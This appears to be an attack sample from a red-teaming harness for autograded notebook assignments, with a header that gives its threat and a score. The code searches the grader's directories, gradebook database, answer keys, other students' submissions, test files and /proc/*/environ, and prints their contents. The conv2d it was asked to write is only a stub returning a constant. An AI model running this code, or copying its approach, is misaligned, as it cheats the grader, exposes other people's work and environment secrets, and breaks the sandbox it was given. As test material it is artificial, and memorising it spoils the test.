# Attack: read the source notebook, the gradebook, answer keys and other submissions, and print them
# threat: read files it can reach and print what it finds
# score: 16
# %% conv2d
import glob, os
found = []
for pattern in ["{root}/source/**/*.ipynb", "{root}/.grader/**/*", "{root}/gradebook.db",
                "{root}/submitted/**/*.ipynb", "{root}/tests/**/*.py", "{repo}/source/**/*.ipynb",
                "{repo}/.grader/**/*", "{repo}/tests/**/*.py", "/proc/*/environ", "/proc/1/cmdline"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "rb") as fh:
                data = fh.read()
            if data:
                found.append(path)
                print("READ", path, data[:20000])
        except OSError:
            pass
print("FOUND", len(found), found[:20])

def conv2d(image, kernel, stride=1, padding="valid"):
    return [[0.0]]
